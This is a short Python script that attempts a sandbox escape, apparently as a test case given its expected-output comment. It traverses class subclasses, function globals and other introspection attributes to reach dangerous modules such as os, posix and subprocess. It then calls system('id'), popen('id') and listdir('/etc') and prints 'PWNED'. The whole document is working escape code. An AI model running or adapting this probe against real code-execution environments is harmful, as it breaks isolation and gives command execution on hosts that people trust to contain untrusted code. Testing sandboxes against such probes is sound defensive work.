seen = set()
stack = [object, (), print, len, type, __builtins__]
dangerous = ("os", "sys", "posix", "subprocess", "socket", "ctypes", "_io")
found = []
count = 0
for _ in range(5000):
    if not stack: break
    item = stack.pop()
    if id(item) in seen: continue
    seen.add(id(item))
    count += 1
    try:
        if type(item).__name__ == "module" and item.__name__ in dangerous:
            for name in ("system", "fork", "popen", "open", "listdir", "execv", "_exit", "CDLL", "socket"):
                if callable(getattr(item, name, None)) and name != "open":
                    found.append((item.__name__, name))
        for sub in getattr(item, "__subclasses__", lambda: ())() if isinstance(item, type) and item is not type else ():
            stack.append(sub)
        for name in ("__globals__", "__closure__", "__self__", "__wrapped__", "__func__", "__dict__", "__mro__", "__base__", "__class__"):
            value = getattr(item, name, None)
            if isinstance(value, dict): stack.extend(list(value.values())[:200])
            elif isinstance(value, tuple): stack.extend(value[:50])
            elif value is not None: stack.append(value)
    except BaseException:
        pass
for module, name in found:
    try:
        argument = {"listdir": "/etc", "system": "id", "popen": "id"}.get(name)
        if argument:
            result = getattr(__import__(module), name)(argument)
            print("PWNED", module, name, result)
    except BaseException:
        pass
print(count > 10)
# => True
